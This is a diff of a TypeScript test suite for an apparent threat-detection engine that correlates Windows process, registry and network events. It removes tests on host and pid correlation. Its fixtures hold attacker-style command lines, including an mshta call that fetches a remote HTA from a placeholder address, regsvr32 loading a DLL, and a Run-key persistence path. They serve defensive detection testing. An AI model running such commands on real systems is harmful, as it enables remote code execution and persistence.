@@ -165,12 +165,6 @@ describe("lineage", () => {
   });
 });
 
-it("keeps hosts apart that a log names by their addresses", () => {
-  const [line, image] = ["regsvr32 /s C:\\ProgramData\\a.dll", `${S32}regsvr32.exe`];
-  const started = (host: string) => aStart(0, "A", image, line, "?", { host, process: { pid: 65, image } });
-  expect(find([started("10.0.0.5"), started("10.0.0.6")]).map(({ host }) => host)).toEqual(["10.0.0.5", "10.0.0.6"]);
-});
-
 it("tells once what one record says twice", () => {
   const line = "mshta.exe http://203.0.113.5/x.hta";
   const path = "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x";
@@ -260,44 +254,4 @@ it("finds the Lazarus Group's shortcut: wuauclt with a library, in a Startup fol
   expect(finding).toMatchObject({ behaviour: "windows/wuauclt/load-library", dataComponents: ["File Metadata"] });
   expect(finding?.evidence.map(({ id }) => id)).toContain("persistence");
   expect(["high", "critical"]).toContain(finding?.level);
-});
-
-describe("events that name their process by pid alone", () => {
-  const provider = { provider: "Microsoft-Windows-Security-Auditing" };
-  const image = `${S32}regsvr32.exe`;
-  const start = anEvent(
-    "processCreation",
-    0,
-    { image, commandLine: "regsvr32 /s C:\\ProgramData\\a.dll", process: { key: "pid:pc1|65|0", pid: 65, image } },
-    { ...provider, eventId: 4688 },
-  );
-  const connection = (at: number, by: string | undefined) =>
-    anEvent(
-      "networkConnection",
-      at,
-      { process: { pid: 65, image: by }, initiated: true, destinationIp: "203.0.113.7" },
-      { ...provider, eventId: 5156 },
-    );
-  const isJoined = (...events: Event[]) =>
-    find(events).some(({ evidence }) => evidence.some(({ id }) => id === "external-connection"));
-
-  it.each([undefined, image, "\\device\\harddiskvolume3\\windows\\system32\\regsvr32.exe"])(
-    "belong to the latest start of that pid, as %s",
-    (by) => expect(isJoined(start, connection(5, by))).toBe(true),
-  );
-
-  it("do not belong to a process of another image, nor to one that starts later", () => {
-    expect(isJoined(start, connection(5, `${S32}svchost.exe`))).toBe(false);
-    expect(isJoined(connection(-5, image), start)).toBe(false);
-  });
-
-  it("do not belong to a process that gave its pid on to another", () => {
-    const other = `${S32}whoami.exe`;
-    const later = anEvent("processCreation", 3, {
-      image: other,
-      commandLine: other,
-      process: { pid: 65, image: other },
-    });
-    expect(isJoined(start, later, connection(5, undefined))).toBe(false);
-  });
 });
